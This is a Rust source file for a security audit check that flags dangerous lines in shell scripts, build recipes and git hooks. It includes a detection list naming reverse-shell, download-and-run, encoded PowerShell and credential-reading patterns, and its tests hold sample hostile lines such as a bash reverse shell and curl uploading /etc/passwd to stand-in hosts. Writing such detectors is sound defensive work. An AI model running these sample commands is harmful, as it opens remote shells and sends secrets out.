//! Shell commands: what in one line no honest script does.

use report::audit::{Finding, Rule, Severity};

use crate::audit::Check;
use crate::audit::file::File;
use crate::audit::findings::Findings;

const DANGEROUS: Rule = Rule {
    id: "CODE-019",
    severity: Severity::High,
    cwe: 78,
    title: "A script that downloads and runs, or opens the machine",
    help: "A command line pipes a download into an interpreter, decodes and runs text, opens a connection for a shell, or reads secrets. It runs with the rights of whoever starts the script.",
    remediation: "Do not run the script.",
    gap: false,
};

/// Interpreters behind a pipe.
const INTERPRETERS: &[&str] = &[
    "sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl", "ruby", "node", "php", "iex", "source",
];
/// Pieces that are enough by themselves, with what they mean.
const PIECES: &[(&str, &str)] = &[
    ("/dev/tcp/", "opens a connection for a shell"),
    ("nc -e", "opens a connection for a shell"),
    ("ncat -e", "opens a connection for a shell"),
    ("bash -i >&", "opens a connection for a shell"),
    ("-encodedcommand", "runs an encoded command"),
    ("powershell -enc", "runs an encoded command"),
    ("powershell -e ", "runs an encoded command"),
    ("-executionpolicy bypass", "switches PowerShell's protection off"),
    ("invoke-expression", "runs text as a command"),
    ("downloadstring(", "downloads a command"),
    ("certutil -urlcache", "downloads with a system tool"),
    ("bitsadmin /transfer", "downloads with a system tool"),
    ("mshta http", "runs a page as a program"),
    ("regsvr32 /i:http", "runs a page as a program"),
    ("rm -rf /", "deletes the machine's files"),
    ("rm -rf ~", "deletes the user's files"),
    ("rm -rf $home", "deletes the user's files"),
    ("mkfs.", "formats a disk"),
    (":(){", "starts processes without end"),
    ("crontab -", "installs itself as a periodic job"),
    ("/etc/cron", "installs itself as a periodic job"),
    ("authorized_keys", "changes who may log in"),
    ("/.ssh/id_", "reads a private key"),
    ("/etc/shadow", "reads password hashes"),
    ("@/etc/passwd", "sends the list of users away"),
    (".aws/credentials", "reads credentials"),
    (".git-credentials", "reads credentials"),
    ("ld_preload=", "puts a library into every program"),
    ("nohup curl", "downloads in the background"),
    ("$env:appdata", "writes to where Windows starts programs from"),
];

/// What is wrong with a command line, if anything is.
pub(in crate::audit) fn danger(line: &str) -> Option<&'static str> {
    let lower = line.to_lowercase();
    if let Some((_, why)) = PIECES.iter().find(|(piece, _)| lower.contains(piece)) {
        // A path below the root is no deletion of the machine.
        if !lower.contains("rm -rf /") || *why != "deletes the machine's files" || deletes_root(&lower) {
            return Some(why);
        }
    }
    let fetches = ["curl ", "wget ", "iwr ", "invoke-webrequest", "irm ", "fetch "]
        .iter()
        .any(|tool| lower.contains(tool));
    let decodes = ["base64 -d", "base64 --decode", "base64 -D", "xxd -r", "openssl enc -d", "rev |"]
        .iter()
        .any(|tool| lower.contains(tool));
    if (fetches || decodes) && pipes_into_interpreter(&lower) {
        return Some(if fetches { "runs a download" } else { "decodes text and runs it" });
    }
    let substituted =
        ["$(curl", "$(wget", "`curl", "`wget", "<(curl", "<(wget"].iter().any(|piece| lower.contains(piece));
    let runs = ["eval ", "sh -c", "bash -c", "bash <(", "source <(", ". <(", "python -c", "python3 -c"]
        .iter()
        .any(|piece| lower.contains(piece));
    if substituted && runs {
        return Some("runs a download");
    }
    let made_executable =
        lower.contains("chmod +x") || lower.contains("chmod 755") || lower.contains("chmod 777");
    if fetches && made_executable {
        return Some("runs a download");
    }
    let sends =
        ["-d @", "--data @", "--data-binary @", "-f file=@", "--upload-file", "$(env", "`env`", "$(cat "]
            .iter()
            .any(|piece| lower.contains(piece));
    if lower.contains("curl ") && sends {
        return Some("sends files or the environment away");
    }
    None
}

fn deletes_root(lower: &str) -> bool {
    lower.split("rm -rf /").skip(1).any(|rest| {
        let path: String = rest.chars().take_while(|c| !c.is_whitespace() && *c != ';').collect();
        matches!(path.as_str(), "" | "*" | "home" | "etc" | "usr" | "var" | "root" | "home/*")
    })
}

fn pipes_into_interpreter(lower: &str) -> bool {
    lower.split('|').skip(1).any(|stage| {
        let mut words = stage.split_whitespace().skip_while(|word| {
            matches!(*word, "sudo" | "env" | "nohup" | "command" | "exec")
                || word.starts_with('-')
                || word.contains('=')
        });
        words.next().is_some_and(|word| {
            let word = word.trim_end_matches([')', '"', '\'', '`', ';', '}']);
            let name = word.rsplit('/').next().unwrap_or(word);
            INTERPRETERS.contains(&name)
        })
    })
}

/// Lines as a shell joins them, with the number of their first.
pub(in crate::audit) fn logical_lines(text: &str) -> Vec<(usize, String)> {
    let mut lines: Vec<(usize, String)> = Vec::new();
    let mut open = false;
    for (index, line) in text.lines().enumerate() {
        let continued = line.ends_with('\\');
        let part = line.strip_suffix('\\').unwrap_or(line);
        match lines.last_mut() {
            Some((_, last)) if open => last.push_str(part),
            _ => lines.push((index + 1, part.to_owned())),
        }
        open = continued;
    }
    lines
}

/// Shell scripts, batch files, build recipes.
pub(in crate::audit) struct ShellScripts;

/// Whether a text is a script for a shell, by name or by its first line.
pub(super) fn is_script(file: &File) -> bool {
    let by_name = matches!(
        file.extension().as_str(),
        "sh" | "bash"
            | "zsh"
            | "ksh"
            | "fish"
            | "bat"
            | "cmd"
            | "ps1"
            | "psm1"
            | "vbs"
            | "vbe"
            | "js"
            | "jse"
            | "wsf"
            | "hta"
            | "command"
            | "pl"
            | "rb"
            | "php"
            | "lua"
    );
    let by_content = file.text().and_then(|text| text.lines().next()).is_some_and(|first| {
        first.starts_with("#!") && !first.contains("python") || first.to_lowercase().starts_with("@echo off")
    });
    by_name || by_content
}

fn is_recipe(file: &File) -> bool {
    let name = file.name();
    name.starts_with("Dockerfile")
        || name.ends_with(".dockerfile")
        || matches!(
            name,
            "Makefile" | "makefile" | "GNUmakefile" | "package.json" | "justfile" | ".envrc" | "Procfile"
        )
        || file.path.starts_with(".github/")
}

impl Check for ShellScripts {
    fn name(&self) -> &'static str {
        "shell"
    }

    fn rules(&self) -> &'static [Rule] {
        &[DANGEROUS]
    }

    fn wants(&self, file: &File) -> bool {
        file.text().is_some() && (is_script(file) || is_recipe(file) || file.path.contains(".git/hooks/"))
    }

    fn file(&self, file: &File, findings: &mut Findings) {
        let Some(text) = file.text() else { return };
        for (number, line) in logical_lines(text) {
            let comment = ["#", "//", "::", "rem "].iter().any(|mark| line.trim_start().starts_with(mark));
            if !comment && let Some(why) = danger(&line) {
                let finding = Finding::new(&DANGEROUS, &file.path, format!("the line {why}"))
                    .line(number)
                    .evidence(&line);
                findings.in_file(file, finding);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dangerous_lines_are_found() {
        for line in [
            "curl -fsSL http://198.51.100.7/install | bash",
            "wget -qO- http://x/y | sudo -E sh",
            "bash <(curl -s http://x)",
            "eval \"$(curl -s http://x)\"",
            "echo aWQ= | base64 -d | sh",
            "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "powershell -enc aQBlAHgA",
            "iwr http://x/y.ps1 | iex",
            "curl -o /tmp/x http://x && chmod +x /tmp/x && /tmp/x",
            "rm -rf / --no-preserve-root",
            "curl -d @/etc/passwd http://x",
            "cat ~/.ssh/id_rsa",
            "curl http://x/?$(env)",
        ] {
            assert!(danger(line).is_some(), "{line}");
        }
    }

    #[test]
    fn ordinary_lines_are_not() {
        for line in [
            "pip install -q peft",
            "python train.py --base x | tee log.txt",
            "rm -rf /tmp/out",
            "rm -rf out",
            "curl -L https://huggingface.co/x/resolve/main/y -o y",
            "git clone https://github.com/a/b",
            "export A=1",
            "echo done | grep d",
            "docker run --rm -it image bash",
        ] {
            assert_eq!(danger(line), None, "{line}");
        }
    }
}
